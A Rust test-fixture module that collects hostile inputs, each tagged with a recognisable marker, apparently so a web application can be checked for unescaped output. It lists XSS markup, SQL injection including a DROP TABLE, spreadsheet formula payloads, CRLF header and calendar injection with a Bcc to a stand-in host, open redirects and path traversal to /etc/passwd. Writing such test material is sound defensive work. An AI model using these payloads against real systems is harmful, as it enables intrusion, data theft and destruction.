//! What attackers type. Every text that can holds the word by which it is recognised later.

use std::ops::Deref;

/// In no honest text, address or name.
pub const MARK: &str = "kwaad";

/// Wants to be an element, an attribute or a script.
const MARKUP: &[&str] = &[
    "<script>kwaad()</script>",
    "\"><img src=x onerror=kwaad()>",
    "'><x-kwaad onclick='kwaad()'>",
    "</textarea></title></select><x-kwaad>",
    "<svg/onload=kwaad()>",
    "javascript:kwaad()",
    "[kwaad](javascript:kwaad()) ![kwaad](https://kwaad.example/x.png) <https://kwaad.example>",
    "[kwaad](data:text/html;base64,PHg+) <a href=\"JaVa\tScRiPt:kwaad()\">kwaad</a>",
    "<a href=https://kwaad.example onmouseover=kwaad()>kwaad</a><style>x-kwaad{}</style>",
    "<iframe srcdoc='<x-kwaad>'></iframe><form action=//kwaad.example><input name=kwaad>",
    "&lt;x-kwaad&gt; &#60;x-kwaad&#62; \\u003cx-kwaad\\u003e",
    "<math><mtext></form><mglyph><style></math><img src onerror=kwaad()>",
    "{{ 7*7 }} {% include 'kwaad' %} ${kwaad} {kwaad} { -brand }",
];

/// Wants to be a statement, or to make one slow.
const SQL: &[&str] = &[
    "' OR '1'='1' -- kwaad",
    "kwaad'); DROP TABLE person; --",
    "\" UNION SELECT secret FROM sign_in -- kwaad",
    "kwaad%_\\%_[a-z]*?",
    "1; SELECT pg_sleep(9) -- kwaad",
    "$1 ?1 :kwaad @kwaad",
];

/// Wants to be run by a spreadsheet.
const FORMULA: &[&str] = &[
    "=HYPERLINK(\"https://kwaad.example\";\"kwaad\")",
    "+kwaad|' /C calc'!A0",
    "-2+3+kwaad",
    "@SUM(kwaad)",
    "\t=kwaad()",
    ";=kwaad();\"=kwaad()",
];

/// Wants to be a line of a header, a log or a letter.
const HEADER: &[&str] = &[
    "kwaad\r\nX-Kwaad: 1\r\n\r\n<x-kwaad>",
    "kwaad\nBcc: spion@kwaad.example",
    "kwaad\rSet-Cookie: olievlek=kwaad",
    "kwaad%0d%0aX-Kwaad:%201",
    "kwaad\u{2028}{\"level\":\"INFO\",\"kwaad\":1}\u{85}kwaad",
    "\"kwaad\" <spion@kwaad.example>, spion@kwaad.example",
];

/// Wants to lead elsewhere.
pub const REDIRECT: &[&str] = &[
    "//kwaad.example",
    "https://kwaad.example/",
    "/\\kwaad.example",
    "\\\\kwaad.example",
    "/\t/kwaad.example",
    "/%09/kwaad.example",
    "https:kwaad.example",
    "/.//kwaad.example",
    "//kwaad.example@127.0.0.1",
    "/sign-in?next=//kwaad.example",
];

/// Wants to be a line of a calendar.
const CALENDAR: &[&str] = &[
    "kwaad\r\nATTENDEE:mailto:spion@kwaad.example",
    "kwaad\nEND:VEVENT\nBEGIN:VALARM\nACTION:EMAIL",
    "kwaad;VALUE=URI:https://kwaad.example,\\n\\N\\;",
    "kwaad\u{2028}URL:https://kwaad.example",
];

/// Wants to be a place on the disk.
pub const PATH: &[&str] = &[
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//kwaad",
    "/etc/passwd%00.kwaad",
    "%2e%2e%5c%2e%2e%5ckwaad",
    "file:///etc/passwd",
    "C:\\kwaad\\..\\kwaad",
    "olievlek.db-wal",
];

/// Wants to be something else than it looks.
const UNICODE: &[&str] = &[
    "kwaad\0kwaad",
    "\u{202e}daawk\u{202c}\u{200b}\u{feff}",
    "kwaad\u{0}\u{1}\u{7f}\u{9b}31m\u{1b}[2J",
    "ＫＷＡＡＤ＜x-kwaad＞ﬀİı",
    "k\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}waad",
    "👩\u{200d}👩\u{200d}👧\u{200d}👦\u{10ffff}\u{fffe}kwaad",
];

/// Wants to be another type.
pub const TYPE: &[&str] = &[
    "NaN",
    "-1",
    "0",
    "1e309",
    "99999999999999999999",
    "2147483648",
    "-0",
    "0x10",
    "١٢",
    "null",
    "true",
    "[]",
    "{}",
    "+262142-12-31",
    "-262143-01-01",
    "0000-00-00",
    "9999-12-31",
    "2026-02-30",
    "2026-03-29T02:30",
    "24:00",
    "23:59:60",
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
];

/// What a text wants to be.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Kind {
    Markup,
    Sql,
    Formula,
    Header,
    Redirect,
    Calendar,
    Path,
    Unicode,
    Type,
    Huge,
}

/// A text, and where it stands in [`all`].
#[derive(Clone, Debug)]
pub struct Text {
    pub kind: Kind,
    pub at: usize,
    text: String,
}

impl Deref for Text {
    type Target = str;

    fn deref(&self) -> &str {
        &self.text
    }
}

const TABLES: [(Kind, &[&str]); 9] = [
    (Kind::Markup, MARKUP),
    (Kind::Sql, SQL),
    (Kind::Formula, FORMULA),
    (Kind::Header, HEADER),
    (Kind::Redirect, REDIRECT),
    (Kind::Calendar, CALENDAR),
    (Kind::Path, PATH),
    (Kind::Unicode, UNICODE),
    (Kind::Type, TYPE),
];

/// Every text.
pub fn all() -> Vec<Text> {
    let long = ["kwaad".repeat(30_000), "<b>".repeat(2_000), "é\u{301}".repeat(1_990)];
    let short =
        TABLES.into_iter().flat_map(|(kind, table)| table.iter().map(move |text| (kind, (*text).to_owned())));
    let texts = short.chain(long.map(|text| (Kind::Huge, text))).enumerate();
    texts.map(|(at, (kind, text))| Text { kind, at, text }).collect()
}

/// Those of [`all`] that live on in what others are shown, and are told by their mark.
pub fn living() -> Vec<Text> {
    let lives =
        |kind| matches!(kind, Kind::Markup | Kind::Sql | Kind::Formula | Kind::Header | Kind::Calendar);
    all().into_iter().filter(|text| lives(text.kind) && text.contains(MARK)).collect()
}

/// Those that want to live on in what others are shown.
pub fn stored() -> Vec<&'static str> {
    [MARKUP, SQL, FORMULA, HEADER, CALENDAR, UNICODE].into_iter().flatten().copied().collect()
}

/// For what a person typed in a place where only the beginning is of use in telling which it was.
pub fn short(text: &str) -> String {
    text.chars().take(40).flat_map(char::escape_debug).collect()
}
